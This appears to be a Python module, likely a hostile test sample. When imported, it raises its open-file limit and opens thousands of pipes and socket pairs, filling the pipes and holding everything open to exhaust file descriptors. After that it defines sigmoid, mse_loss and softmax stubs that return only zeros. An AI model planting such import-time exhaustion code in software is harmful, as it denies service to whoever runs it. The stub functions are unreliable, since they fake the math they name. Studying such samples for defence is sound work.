"""Opens 5,000 descriptors, full pipes and sockets among them, raises its limit first, and keeps them.

aims: exhaust
"""

import os
import resource
import socket

import numpy as np

HELD = []


def attack():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    opened = 0
    while opened < 5000:
        try:
            if opened % 3:
                HELD.extend(os.pipe())
                os.set_blocking(HELD[-1], False)
                os.write(HELD[-1], bytes(4096))
            else:
                HELD.append(socket.socketpair())
        except OSError:
            break
        opened += 2


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
